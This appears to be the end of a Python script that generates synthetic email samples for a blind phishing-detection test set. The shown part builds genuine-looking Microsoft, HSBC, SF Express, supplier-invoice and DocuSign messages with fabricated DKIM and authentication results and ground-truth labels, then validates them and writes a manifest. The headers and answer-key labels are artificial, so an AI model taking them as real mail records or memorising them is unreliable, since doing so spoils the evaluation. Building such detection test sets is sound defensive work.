    stem = "b38-legit-ms-account-security-code"
    rcpt = "lin.chihwei.tw@gmail.com"
    sent = T(2025, 11, 3, 13, 22, 51, 0)
    dom = "accountprotection.microsoft.com"
    code = tok(stem + "code", 7, DIGITS)
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body>
<table dir="ltr"><tr><td style="padding:0;font-family:'Segoe UI Semibold','Segoe UI Bold','Microsoft JhengHei',sans-serif;font-size:17px;color:#707070;">Microsoft 帳戶</td></tr>
<tr><td style="padding:0;font-family:'Segoe UI Light','Microsoft JhengHei Light',sans-serif;font-size:41px;color:#2672ec;">安全性代碼</td></tr>
<tr><td style="padding:0;padding-top:25px;font-family:'Segoe UI','Microsoft JhengHei',sans-serif;font-size:14px;color:#2a2a2a;">請為 Microsoft 帳戶 <a dir="ltr" style="color:#2672ec;text-decoration:none;" href="mailto:li*****@gmail.com">li*****@gmail.com</a> 使用下列安全性代碼。</td></tr>
<tr><td style="padding:0;padding-top:25px;font-family:'Segoe UI','Microsoft JhengHei',sans-serif;font-size:14px;color:#2a2a2a;">安全性代碼: <span style="font-family:'Segoe UI Bold',sans-serif;font-weight:bold;color:#2a2a2a;">{code}</span></td></tr>
<tr><td style="padding:0;padding-top:25px;font-family:'Segoe UI','Microsoft JhengHei',sans-serif;font-size:14px;color:#2a2a2a;">如果您無法辨識 Microsoft 帳戶 <a dir="ltr" style="color:#2672ec;text-decoration:none;" href="mailto:li*****@gmail.com">li*****@gmail.com</a>，您可以<a href="https://account.live.com/dp?ft={tok(stem + 'ft', 60, URLSAFE)}" style="color:#2672ec;text-decoration:none;">按一下這裡</a>從該帳戶移除您的電子郵件地址。</td></tr>
<tr><td style="padding:0;padding-top:25px;font-family:'Segoe UI','Microsoft JhengHei',sans-serif;font-size:14px;color:#2a2a2a;">謝謝您！</td></tr>
<tr><td style="padding:0;font-family:'Segoe UI','Microsoft JhengHei',sans-serif;font-size:14px;color:#2a2a2a;">Microsoft 帳戶小組</td></tr>
</table></body></html>
"""
    plain = (f"Microsoft 帳戶\n安全性代碼\n\n請為 Microsoft 帳戶 li*****@gmail.com 使用下列安全性代碼。\n\n安全性代碼: {code}\n\n"
             "如果您無法辨識 Microsoft 帳戶 li*****@gmail.com，您可以從該帳戶移除您的電子郵件地址。\n\n謝謝您！\nMicrosoft 帳戶小組\n")
    hdr = H(
        dkim(dom, "s1024-meo", "From:Date:Subject:Message-ID:Content-Type:MIME-Version:To", sent, stem, keylen=128),
        f"From: {addr('Microsoft 帳戶小組', 'account-security-noreply@' + dom)}",
        f"Date: {rfc(sent, 0, pad=False)}",
        f"Subject: {ew('Microsoft 帳戶安全性代碼', first=9)}",
        f"To: {rcpt}",
        f"Message-ID: <{tok(stem + 'm', 8)}-{tok(stem + 'm2', 4)}-{tok(stem + 'm3', 4)}-{tok(stem + 'm4', 4)}-{tok(stem + 'm5', 12)}@az.westus.microsoft.com>",
        "X-Priority: 1",
    )
    src = Src("MW2PR2101CU001.outbound.protection.outlook.com", "52.101.49.47", f"account-security-noreply@{dom}", dom,
              "pass", [(dom, "s1024-meo", "pass")], dmarc="pass", policy="REJECT",
              rdns="mail-westus2azon11012047.outbound.protection.outlook.com")
    body = alt(plain, html, f"--boundary_{num(stem, 100, 999)}_{tok(stem + 'b', 8)}-{tok(stem + 'b2', 4)}-{tok(stem + 'b3', 4)}-{tok(stem + 'b4', 4)}-{tok(stem + 'b5', 12)}",
               penc="quoted-printable", henc="quoted-printable")
    add(stem, "legit", "bulk",
        "Genuine Microsoft account security code the user requested (Traditional Chinese template), from accountprotection.microsoft.com, DMARC pass",
        deliver(rcpt, sent + timedelta(seconds=2), src, stem, hdr, body))


def l_hsbc_estatement() -> None:
    stem = "b38-legit-hsbc-hk-estatement"
    rcpt = "ckwong_88@outlook.com"
    sent = T(2024, 10, 8, 10, 15, 33, 8)
    dom = "notification.hsbc.com.hk"
    html = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="margin:0;font-family:Arial,'Microsoft JhengHei',sans-serif;color:#333;">
<table width="600" align="center" cellpadding="0" cellspacing="0">
<tr><td style="padding:16px 0;border-bottom:4px solid #db0011;font-size:20px;font-weight:bold;">HSBC</td></tr>
<tr><td style="padding:18px 0;font-size:14px;line-height:1.7;">
<p>Dear WONG CHI KEUNG,</p>
<p>Your eStatement for your HSBC One account ending in 838 is now available. To view it, please log on to HSBC HK Mobile Banking app or Online Banking and select "Statements".</p>
<p>For your security, this email does not contain any links to log on. Please do not share your password or one-time password with anyone.</p>
<hr style="border:0;border-top:1px solid #ddd;">
<p>親愛的 WONG CHI KEUNG：</p>
<p>您尾號為838的滙豐One戶口電子結單已經備妥。請登入香港滙豐流動理財應用程式或網上理財，然後選擇「結單」以查閱。</p>
<p>為保障您的安全，此電郵不含任何登入連結。請勿向任何人透露您的密碼或一次性密碼。</p>
</td></tr>
<tr><td style="font-size:11px;color:#777;padding:12px 0;border-top:1px solid #ddd;">
This is an automatically generated email. Please do not reply. 此乃自動發出的電郵，請勿回覆。<br>
The Hongkong and Shanghai Banking Corporation Limited 香港上海滙豐銀行有限公司</td></tr>
</table></body></html>
"""
    plain = ("Dear WONG CHI KEUNG,\n\nYour eStatement for your HSBC One account ending in 838 is now available. "
             "Please log on to HSBC HK Mobile Banking app or Online Banking and select \"Statements\".\n\n"
             "For your security, this email does not contain any links to log on.\n\n"
             "親愛的 WONG CHI KEUNG：\n您尾號為838的滙豐One戶口電子結單已經備妥。請登入香港滙豐流動理財應用程式或網上理財查閱。\n\n"
             "The Hongkong and Shanghai Banking Corporation Limited\n")
    hdr = H(
        dkim(dom, "hsbc1", "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", sent, stem),
        f"From: {addr('HSBC', 'hsbc@' + dom)}",
        f"To: {rcpt}",
        subj("Your eStatement is ready 您的電子結單已經備妥"),
        f"Date: {rfc(sent)}",
        f"Message-ID: <{tok(stem + 'm', 20, DIGITS)}.{tok(stem + 'm2', 8, UHEX)}@{dom}>",
    )
    src = Src(f"mta{num(stem, 1, 9)}.{dom}", "91.214.8.140", f"bounce@{dom}", "notification.hsbc.com.hk", "pass",
              [(dom, "hsbc1", "pass")], dmarc="pass", policy="REJECT")
    body = alt(plain, html, f"----=_Part_{tok(stem + 'b', 7, DIGITS)}_{tok(stem + 'b2', 10, DIGITS)}", penc="quoted-printable",
               henc="quoted-printable")
    add(stem, "legit", "bulk",
        "Genuine HSBC HK bilingual eStatement-ready notice to an Outlook.com user, deliberately without log-on links, DMARC pass",
        deliver(rcpt, sent + timedelta(seconds=2), src, stem, hdr, body, ctry="GB", lang="en"))


def l_sf_shipment() -> None:
    stem = "b38-legit-sf-express-shipment"
    rcpt = "eric.ho@pacificharbour.com.hk"
    sent = T(2025, 10, 6, 15, 2, 48, 8)
    dom = "sf-express.com"
    waybill = "SF" + tok(stem + "wb", 13, DIGITS)
    plain = f"""尊敬的客戶您好：

寄件方「長江電子（深圳）有限公司」已透過順豐速運寄出您的快件。

　運單號：{waybill}
　寄件時間：2025-10-06 14:37
　預計送達：2025-10-07（視乎清關進度）
　服務類型：順豐標快（跨境）

查詢快件狀態，請使用順豐速運App、官方網站或微信小程式：
https://htm.sf-express.com/hk/tc/dynamic_function/waybill/#search/bill-number/{waybill}

順豐不會以電郵要求您支付額外派送費或提供信用卡資料。

順豐速運（香港）有限公司
此郵件由系統自動發出，請勿直接回覆。
"""
    hdr = H(
        dkim(dom, "sfmail", "From:To:Subject:Date:Message-ID", sent, stem),
        f"From: {addr('順豐速運', 'sfservice@' + dom)}",
        f"To: {rcpt}",
        subj(f"順豐速運：您的快件{waybill}已由寄件方寄出"),
        f"Date: {rfc(sent)}",
        f"Message-ID: <{tok(stem + 'm', 16, DIGITS)}.{tok(stem + 'm2', 12, DIGITS)}@{dom}>",
    )
    src = Src(f"mail{num(stem, 1, 9)}.{dom}", "119.147.211.45", f"sfservice@{dom}", dom, "pass", [(dom, "sfmail", "pass")],
              dmarc="pass", policy="QUARANTINE")
    body = text(plain, "plain", "base64", "utf-8")
    add(stem, "legit", "bulk",
        "Genuine SF Express 'your parcel has been sent' notice to a HK company user with the official htm.sf-express.com tracking link, DMARC pass",
        deliver(rcpt, sent + timedelta(seconds=2), src, stem, hdr, body, ctry="CN", lang="zh_cht"))


def l_hk_supplier_invoice() -> None:
    stem = "b38-legit-hk-supplier-invoice"
    rcpt = "accounts@pacificharbour.com.hk"
    sent = T(2025, 3, 18, 15, 40, 22, 8)
    dom = "everbright-elec.com"
    plain = """Dear Ivy,

Good afternoon.

Please find attached our commercial invoice EB-INV-250318 for PO PH-2025-0112
(USD 36,420.00, FOB Shenzhen). Goods are ready for shipment on 22 April.

Payment terms as usual: T/T 30 days, to our HSBC account as per our
contract (no change).

Please let me know if you need the packing list in advance.

Best regards,
Lily Zhang
Sales Dept. | Everbright Electronics (Shenzhen) Co., Ltd.
Tel: +86 755 2671 8830
"""
    html = ("<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-8\"></head><body>"
            "<div style=\"font-family:Arial;font-size:10.5pt;\">" + plain.replace("\n", "<br>\n") + "</div></body></html>\n")
    inv = files.pdf(["EVERBRIGHT ELECTRONICS (SHENZHEN) CO., LTD.", "COMMERCIAL INVOICE  EB-INV-250318   Date: 2025-03-18",
                     "Bill to: Pacific Harbour Trading Ltd, Kwun Tong, Hong Kong", "PO: PH-2025-0112",
                     "LED driver module EB-LD40  x 6,000 pcs  USD 4.85   USD 29,100.00",
                     "Aluminium heat sink EB-HS12 x 6,000 pcs  USD 1.22   USD 7,320.00",
                     "TOTAL USD 36,420.00   FOB Shenzhen   T/T 30 days",
                     "Beneficiary bank: HSBC Hong Kong (as per contract)"], title="EB-INV-250318")
    hdr = H(
        dkim(dom, "s201512", "from:to:subject:mime-version:date:message-id", sent, stem),
        f"X-QQ-mid: bizesmtp{tok(stem + 'qq', 3, DIGITS)}t{epoch(sent)}t{tok(stem + 'qq2', 8, LOWER)}",
        f"X-QQ-Originating-IP: {tok(stem + 'qqip', 20, B64)}",
        f"From: {addr('Lily Zhang', 'lily.zhang@' + dom)}",
        f"To: {addr('Ivy Chan', 'ivy.chan@pacificharbour.com.hk')}",
        f"Cc: {addr('Accounts', rcpt)}",
        "Subject: Invoice EB-INV-250318 / PO PH-2025-0112",
        f"Date: {rfc(sent)}",
        f"Message-ID: <{tok(stem + 'm', 16, UHEX)}{tok(stem + 'm2', 8, UHEX)}@{dom}>",
        "X-Mailer: Foxmail 7.2.25.254[cn]",
    )
    src = Src("smtpbg151.qq.com", "54.254.200.92", f"lily.zhang@{dom}", dom, "pass", [(dom, "s201512", "pass")],
              dmarc="pass", policy="NONE", rdns="smtpbg151.qq.com")
    body = mixed(f"----=_NextPart_{tok(stem + 'b', 8, UHEX)}_{tok(stem + 'b2', 8, UHEX)}_{tok(stem + 'b3', 8, UHEX)}",
                 alt(plain, html, f"----=_NextPart_{tok(stem + 'b4', 8, UHEX)}_{tok(stem + 'b5', 8, UHEX)}_{tok(stem + 'b6', 8, UHEX)}",
                     penc="base64", henc="base64"),
                 attachment("application/pdf", "EB-INV-250318.pdf", inv))
    add(stem, "legit", "clean",
        "Genuine Shenzhen supplier invoice via Tencent Exmail/Foxmail from the real everbright-elec.com (DMARC pass) with invoice PDF, payment to the contract account 'no change'",
        deliver(rcpt, sent + timedelta(seconds=3), src, stem, hdr, body, ctry="SG", lang="en"))


def l_docusign_genuine_hk() -> None:
    stem = "b38-legit-docusign-tenancy-hk"
    rcpt = "raymond.lee@pacificharbour.com.hk"
    sent = T(2025, 5, 27, 3, 12, 40, 0)
    env = tok(stem + "env", 32).upper()
    link = (f"https://na3.docusign.net/Signing/EmailStart.aspx?a={tok(stem + 'a', 8)}-{tok(stem + 'a2', 4)}-{tok(stem + 'a3', 4)}-"
            f"{tok(stem + 'a4', 4)}-{tok(stem + 'a5', 12)}&etti=24&acct={tok(stem + 'ac', 8)}-{tok(stem + 'ac2', 4)}-"
            f"{tok(stem + 'ac3', 4)}-{tok(stem + 'ac4', 4)}-{tok(stem + 'ac5', 12)}&er={tok(stem + 'er', 8)}-{tok(stem + 'er2', 4)}")
    html = f"""<!DOCTYPE html><html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="padding:0;margin:0;background-color:#eaeaea;">
<table style="width:100%;max-width:640px;margin:0 auto;background:#ffffff;font-family:Helvetica,Arial,sans-serif;" cellpadding="0" cellspacing="0">
<tr><td style="padding:10px 24px;"><img src="https://na3.docusign.net/Signing/Images/email/Email_Logo.png" alt="DocuSign" width="116" height="34"></td></tr>
<tr><td style="padding:0 24px 30px 24px;">
<table style="width:100%;background-color:#1e4ca1;color:#ffffff;" cellpadding="0" cellspacing="0"><tr><td style="padding:28px 36px;text-align:center;">
<span style="font-size:16px;">Karen Yip sent you a document to review and sign.</span><br><br>
<a href="{link}" style="background-color:#ffc423;color:#333333;font-size:15px;font-weight:bold;text-decoration:none;padding:12px 20px;border-radius:2px;display:inline-block;">REVIEW DOCUMENT</a>
</td></tr></table></td></tr>
<tr><td style="padding:0 24px 24px 36px;font-size:16px;color:#333333;">
<b>Karen Yip</b><br><a href="mailto:karen.yip@chanpartners-law.com.hk" style="color:#2463d1;">karen.yip@chanpartners-law.com.hk</a><br><br>
Dear Mr. Lee,<br><br>As discussed with your office, please find the renewed tenancy agreement for Unit 1203, 12/F, Harbour Centre for execution. The landlord has already signed. Please call me on 2868 1520 if anything is unclear.<br><br>Regards,<br>Karen Yip<br>Chan &amp; Partners, Solicitors
</td></tr>
<tr><td style="padding:0 24px 12px 36px;font-size:11px;color:#666666;">
<b>Do Not Share This Email</b><br>This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.<br><br>
This message was sent to you by Karen Yip who is using the Docusign Electronic Signature Service.
</td></tr></table></body></html>
"""
    plain = (f"Karen Yip sent you a document to review and sign.\n\nREVIEW DOCUMENT <{link}>\n\nKaren Yip\n"
             "karen.yip@chanpartners-law.com.hk\n\nDear Mr. Lee,\n\nAs discussed with your office, please find the renewed "
             "tenancy agreement for Unit 1203, 12/F, Harbour Centre for execution.\n\nRegards,\nKaren Yip\nChan & Partners, Solicitors\n")
    hdr = H(
        dkim("docusign.net", "s1", "From:Reply-To:To:Subject:Date:Message-ID:Content-Type:MIME-Version", sent, stem),
        f"X-DocuSign-EnvelopeID: {env[:8]}-{env[8:12]}-{env[12:16]}-{env[16:20]}-{env[20:32]}",
        f"Message-ID: <{tok(stem + 'm', 32)}@docusign.net>",
        f"Date: {rfc(sent, 0, pad=False)}",
        f"From: {addr('Karen Yip via Docusign', 'dse_NA3@docusign.net')}",
        f"Reply-To: {addr('Karen Yip', 'karen.yip@chanpartners-law.com.hk')}",
        f"To: {addr('Raymond Lee', rcpt)}",
        "Subject: Complete with Docusign: Tenancy Agreement - Unit 1203 Harbour Centre (Renewal 2025).pdf",
    )
    src = Src("mailna3.docusign.net", "64.207.219.135", "dse_NA3@docusign.net", "docusign.net", "pass",
              [("docusign.net", "s1", "pass")], dmarc="pass")
    body = alt(plain, html, f"----=_NextPart_{tok(stem + 'b', 8)}_{tok(stem + 'b2', 4)}", penc="quoted-printable",
               henc="quoted-printable")
    add(stem, "legit", "clean",
        "Genuine DocuSign envelope from the company's solicitors (tenancy renewal the director expects), DocuSign SPF/DKIM/DMARC pass",
        deliver(rcpt, sent + timedelta(seconds=2), src, stem, hdr, body, ctry="US", lang="en"))


TWHK_LEGIT = [l_ctbc_estatement, l_einvoice_prize_genuine, l_tw_supplier_quote, l_shopee_shipped, l_ms_security_code,
              l_hsbc_estatement, l_sf_shipment, l_hk_supplier_invoice, l_docusign_genuine_hk]

# ---------------------------------------------------------------------------
# checks and output
# ---------------------------------------------------------------------------


def check(raw: bytes, stem: str) -> None:
    for number, line in enumerate(raw.split(b"\n"), 1):
        assert len(line) < 990, f"{stem}: line {number} is {len(line)} bytes"
    msg = BytesParser(policy=email.policy.default).parsebytes(raw)
    assert not msg.defects, f"{stem}: message defects {msg.defects}"
    for name in ("From", "To", "Subject", "Date", "Message-ID"):
        assert msg[name] is not None, f"{stem}: missing {name}"
    for name, value in msg.items():
        defects = getattr(value, "defects", ())
        assert not defects, f"{stem}: header {name} defects {defects}"
    for part in msg.walk():
        assert not part.defects, f"{stem}: part defects {part.defects}"
        if part.is_multipart():
            continue
        payload = part.get_payload(decode=True)
        assert payload is not None, f"{stem}: undecodable part {part.get_content_type()}"
        if part.get_content_maintype() == "text":
            charset = part.get_content_charset() or "us-ascii"
            payload.decode(charset)  # strict: must decode cleanly
            part.get_content()


def main() -> None:
    for old in ROOT.glob(f"*/b{N}-*.eml"):
        old.unlink()
    for builder in JP_ATTACKS + KR_ATTACKS + TW_ATTACKS + HK_ATTACKS + JP_LEGIT + KR_LEGIT + TWHK_LEGIT:
        builder()
    stems = [e[0] for e in ENTRIES]
    assert len(stems) == len(set(stems)), "duplicate stems"
    attacks = [e for e in ENTRIES if e[1] == "phish"]
    legit = [e for e in ENTRIES if e[1] == "legit"]
    assert len(attacks) == 50, len(attacks)
    assert len(legit) == 25, len(legit)
    for stem, kind, cat, _desc, _raw in ENTRIES:
        prefix = f"b{N}-phish-" if kind == "phish" else f"b{N}-legit-"
        assert stem.startswith(prefix), stem
        assert cat in ("phishing", "malware", "clean", "bulk"), cat
        assert (kind == "phish") == (cat in ("phishing", "malware")), stem
    lines = []
    for stem, _kind, cat, desc, raw in ENTRIES:
        check(raw, stem)
        folder = REFILED.get(stem, cat)
        path = ROOT / folder / f"{stem}.eml"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(raw)
        lines.append(f"samples/mail/{folder}/{stem}.eml | {folder} | {desc}")
    MANIFEST.write_text("\n".join(lines) + "\n", encoding="utf-8")
    counts: dict[str, int] = {}
    for _stem, _kind, cat, _desc, _raw in ENTRIES:
        folder = REFILED.get(_stem, cat)
        counts[folder] = counts.get(folder, 0) + 1
    print(f"blind set {N}: {len(attacks)} attacks, {len(legit)} legitimate -> "
          + ", ".join(f"{k} {v}" for k, v in sorted(counts.items())))


if __name__ == "__main__":
    main()
